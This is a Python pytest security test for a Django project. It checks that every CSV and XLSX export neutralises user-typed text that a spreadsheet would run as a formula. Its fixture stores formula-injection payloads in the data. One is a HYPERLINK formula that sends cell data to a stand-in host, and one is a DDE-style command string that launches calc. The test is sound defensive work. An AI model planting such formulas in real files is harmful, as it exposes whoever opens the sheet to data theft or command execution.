"""No text a user typed is ever run as a formula by the spreadsheet that opens an export.

Every CSV and XLSX route of the project is fetched after names, titles, objects and
references of the demo were typed as formulas; a cell that starts with one is a
formula a spreadsheet would run (a link that sends the sheet's data away).
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from activity.models import Indicator
from conventions.models import Payment
from tests.security.urls import ROUTES, build_url

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Ouvrir")',
    "@SUM(1+1)*cmd",
    "+1+cmd|' /C calc'!A0",
)
EXPORTS = sorted(label for label, route in ROUTES.items() if route.name.endswith(("_csv", "_xlsx")))


@pytest.fixture
def typed_as_formulas(demo):
    first, second, third = FORMULAS
    for side in (demo.niort, demo.ermont):
        side.post.name = first
        side.post.save()
        side.convention.title = second
        side.convention.save()
        side.deliberation.object = third
        side.deliberation.save()
        side.contribution.organisation.name = first
        side.contribution.organisation.save()
        side.contribution.source = second
        side.contribution.save()
    Payment.objects.update(reference=third)
    Indicator.objects.filter(pk=Indicator.objects.order_by("pk").first().pk).update(label=first)
    return demo


def cells(response) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,")
        return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]


def test_every_export_of_the_project_is_listed():
    assert len(EXPORTS) >= 8, EXPORTS


@pytest.mark.parametrize("label", EXPORTS)
def test_no_export_writes_typed_text_as_a_formula(client, typed_as_formulas, label):
    client.force_login(typed_as_formulas.users["admin"])
    response = client.get(build_url(typed_as_formulas, label, "niort"))
    assert response.status_code == 200, label
    written = cells(response)
    assert not [c for c in written if c.startswith(("=", "@", "+"))], label
